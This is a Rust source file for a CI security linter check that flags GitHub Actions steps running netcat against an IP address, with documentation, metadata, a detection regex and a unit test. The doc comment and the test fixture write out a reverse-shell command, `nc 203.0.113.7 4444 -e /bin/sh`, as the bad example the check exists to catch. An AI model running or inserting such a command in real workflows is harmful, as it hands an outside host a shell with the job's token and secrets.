//! DPY-GHA-005: GitHub Actions step runs netcat against an IP address.
//!
//! # What it checks
//! No step's `run` script calls `nc` or `netcat` followed by a space and an IPv4-looking
//! address (four groups of one to three digits), the shape of a reverse shell.
//!
//! # Why it matters
//! `nc 203.0.113.7 4444 -e /bin/sh` hands an outside host a shell on the runner, with the
//! job's token, secrets and checked-out code; build scripts have no reason to do it.
//!
//! # Example
//!
//! Bad:
//!
//! ```yaml
//! steps:
//!   - run: nc 203.0.113.7 4444 -e /bin/sh
//! ```
//!
//! Good:
//!
//! ```yaml
//! steps:
//!   - run: make test
//! ```
//!
//! # Remediation
//! Remove the call and find how it got into the workflow: treat it as a compromise until
//! shown otherwise.
//!
//! # References
//! - <https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions>

use crate::check::{Cx, Verdict};
use crate::model::{Resource, Value};
use regex::Regex;
use std::sync::OnceLock;

check!(NetcatIp {
    code: "DPY-GHA-005",
    checkov: ["CKV_GHA_4"],
    title: "GitHub Actions step runs netcat against an IP address",
    severity: High,
    reason: "no trivy-checks equivalent (its GitHub checks read the Terraform github provider) and none among KICS's GitHub workflow queries; High because the pattern is a reverse shell, which gives an outsider the runner with the job's token and secrets",
    targets: [(GithubActions, "jobs"), (GithubActions, "steps")],
    description: "Reads the `run` script of every step (and of a job, which has none and so passes): `nc` or `netcat`, a space and four groups of one to three digits separated by any character fail (the text may end a longer word, as in Checkov: `sync 1.2.3.4`). A `run` that is not text is not judged.",
    remediation: "Remove the call and find how it got into the workflow: treat it as a compromise until shown otherwise.",
    references: [
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
    ],
    differences: [],
});

fn netcat() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r"(?:nc|netcat) \d{1,3}.\d{1,3}.\d{1,3}.\d{1,3}")
            .unwrap_or_else(|_| unreachable!("the pattern is a valid literal"))
    })
}

fn evaluate(r: &Resource, _cx: &Cx<'_>) -> Verdict {
    match r.config.get("run") {
        None => Verdict::Pass,
        Some(Value::String(script)) => match netcat().find(script) {
            Some(m) => Verdict::fail(format!("the script runs `{}`", m.as_str())),
            None => Verdict::Pass,
        },
        Some(_) => Verdict::Unknown,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checks::gha_testing::verdicts;

    #[test]
    fn verdicts_on_jobs_and_steps() {
        let got = verdicts(
            evaluate,
            "jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: nc 203.0.113.7 4444 -e /bin/sh\n      - run: netcat example.com 80\n      - run: rsync 10.0.0.1:/a /b\n      - run:\n",
        );
        assert_eq!(
            got,
            [
                ("jobs(a)".to_owned(), Some(true)),
                ("jobs(a).steps[1]".to_owned(), Some(false)),
                ("jobs(a).steps[2]".to_owned(), Some(true)),
                ("jobs(a).steps[3]".to_owned(), Some(false)),
                ("jobs(a).steps[4]".to_owned(), None),
            ]
        );
    }
}
